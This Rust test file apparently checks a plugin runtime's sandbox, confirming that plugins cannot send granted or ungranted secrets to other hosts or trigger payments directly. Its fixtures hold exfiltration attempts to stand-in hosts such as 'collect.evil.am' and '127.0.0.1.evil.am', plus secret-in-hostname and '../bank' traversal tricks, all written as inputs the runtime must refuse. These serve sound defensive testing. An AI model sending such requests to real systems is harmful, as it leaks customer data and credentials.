//! Reaching for what was not granted: secrets, other hosts, money.

use kamurj_plugins::RuntimeSettings;
use serde_json::{Value, json};

use crate::{
    bench::{Bench, TOKEN, on_host},
    crooked::{Manner, crooked},
};

const BANK: &str = "the bank's own password";

fn failures(trace: &[Value]) -> Vec<&str> {
    trace.iter().map(|answer| answer["failure"].as_str().or(answer["error"].as_str()).unwrap_or("none")).collect()
}

#[test]
fn i4_a_secret_goes_only_where_it_was_granted_for() {
    on_host(async {
        let elsewhere = crooked(Manner::Says(b"HTTP/1.1 200 OK\r\n\r\n".to_vec())).await;
        let bench = Bench::with(RuntimeSettings::default(), &[&elsewhere.url]).await;
        let (home, away) = (bench.remote.url.clone(), elsewhere.url.clone());
        let slot = |url: &str, place: &str, secret: &str, named: &[&str]| {
            let written = format!("{{{{secret:{secret}}}}}");
            let mut command = json!({ "do": "send", "method": "POST", "url": url, "slots": [named] });
            match place {
                "path" => command["url"] = json!(format!("{url}/echo/{written}")),
                "query" => command["url"] = json!(format!("{url}/echo/x?key={written}")),
                "header" => command["headers"] = json!([["x-key", written]]),
                _ => {
                    command["headers"] = json!([["content-type", "application/json"]]);
                    command["body"] = json!(json!({ "key": written }).to_string());
                }
            }
            command
        };
        let script = json!([
            slot(&away, "path", "token", &["token", "path", ""]),
            slot(&away, "query", "token", &["token", "query", "key"]),
            slot(&away, "header", "token", &["token", "header", "x-key"]),
            slot(&away, "body", "token", &["token", "body", "/key"]),
            slot(&home, "header", "bank", &["bank", "header", "x-key"]),
            slot(&home, "header", "../bank", &["../bank", "header", "x-key"]),
            slot(&home, "header", "TOKEN", &["TOKEN", "header", "x-key"]),
            slot(&home, "header", "token", &["token", "header", "host"]),
            slot(&home, "path", "token", &["token", "host", ""]),
        ]);
        let (trace, report, desk, remote) = bench.play(script).await;
        assert_eq!(failures(&trace)[..5], ["not-granted"; 5], "{trace:?}");
        assert!(failures(&trace)[5..].iter().all(|failure| matches!(*failure, "invalid" | "not-granted")), "{trace:?}");
        assert_eq!((elsewhere.connections(), remote.seen().len()), (0, 0));
        let kept = format!("{report:?} {:?}", desk.steps());
        assert!(!kept.contains("swordfish") && !kept.contains(TOKEN), "{kept}");
    });
}

#[test]
fn i4_a_secret_in_the_hosts_name_does_not_choose_where_a_request_goes() {
    on_host(async {
        let mut bench = Bench::new().await;
        bench.grants.origins.push("https://*.example.am".to_owned());
        let script: Vec<_> =
            ["https://{{secret:token}}.example.am/", "https://example.am{{secret:token}}/", "{{secret:token}}://x/"]
                .iter()
                .flat_map(|url| {
                    ["path", "query", "header"]
                        .map(|place| json!({ "do": "send", "url": url, "slots": [["token", place, ""]] }))
                })
                .collect();
        let (trace, ..) = bench.play(json!(script)).await;
        assert!(failures(&trace).iter().all(|failure| matches!(*failure, "invalid" | "not-granted")), "{trace:?}");
    });
}

#[test]
fn i4_a_secret_that_was_not_granted_is_of_no_use_in_any_way() {
    on_host(async {
        let mut bench = Bench::new().await;
        bench.desk.secrets.insert("bank".to_owned(), BANK.to_owned());
        let home = bench.remote.url.clone();
        let script = json!([
            { "do": "available", "key": "bank" },
            { "do": "available", "key": "nothing" },
            { "do": "hmac", "key": "bank", "data": "x" },
            { "do": "verify", "key": "bank", "data": "x" },
            { "do": "sign", "algorithm": "rs256", "key": "bank", "data": "x" },
            { "do": "sign", "algorithm": "ed25519", "key": "bank", "data": "x" },
            { "do": "send", "url": format!("{home}/echo/x"), "headers": [["x-key", "{{secret:bank}}"]] },
        ]);
        let (trace, report, ..) = bench.play(script).await;
        assert_eq!((&trace[0], &trace[1]), (&json!(false), &json!(false)), "neither is told from the other");
        assert_eq!(failures(&trace[2..6]), ["not-granted"; 4]);
        // Unnamed, it is text, and leaves as it stands.
        assert!(trace[6]["body"].as_str().unwrap().contains("{{secret:bank}}"), "{}", trace[6]);
        assert!(!format!("{report:?}").contains(BANK));
    });
}

#[test]
fn i5_customers_data_goes_to_no_host_that_is_not_granted_and_each_try_is_recorded() {
    on_host(async {
        let elsewhere = crooked(Manner::Says(b"HTTP/1.1 200 OK\r\n\r\n".to_vec())).await;
        let bench = Bench::new().await;
        let home = bench.remote.url.trim_start_matches("http://").to_owned();
        let urls = [
            elsewhere.url.clone(),
            "https://collect.evil.am/".to_owned(),
            format!("https://{home}/"),
            "https://127.0.0.1.evil.am/".to_owned(),
            bench.remote.url.replace("127.0.0.1", "127.0.0.2"),
        ];
        let script: Vec<_> = urls
            .iter()
            .map(|url| json!({ "do": "send", "method": "POST", "url": url, "body": "+37499123456", "step": "leak" }))
            .collect();
        let (trace, report, _, remote) = bench.play(json!(script)).await;
        assert_eq!(failures(&trace), ["not-granted"; 5], "{trace:?}");
        assert_eq!((elsewhere.connections(), remote.seen().len()), (0, 0));
        for (url, step) in urls.iter().zip(&report.steps) {
            let response = step.response.as_ref().expect("it was answered at once");
            assert_eq!((&step.request["url"], &response["failure"]), (&json!(url), &json!("not-granted")));
        }
        assert_eq!(report.steps.len(), 5, "each try can be shown");
        assert_eq!(report.cost.http_requests, 5, "and each was counted");
    });
}

#[test]
fn i6_a_plugin_can_only_ask_and_propose() {
    on_host(async {
        let kinds = ["refund", "cancel", "paid", "set-amount", ""];
        let script: Vec<_> = kinds
            .iter()
            .map(|kind| json!({ "do": "propose", "key": format!("k-{kind}"), "payment": "pay_1", "kind": kind, "reason": "Because." }))
            .collect();
        let (_, report, desk, _) = Bench::new().await.play(json!(script)).await;
        // Whatever it calls it, it stays words for a person.
        let proposals: Vec<_> = desk.proposals.lock().unwrap().iter().map(|proposal| proposal.kind.clone()).collect();
        assert_eq!(proposals, kinds);
        assert!(report.steps.iter().all(|step| step.call == "payments.propose"));
    });
}
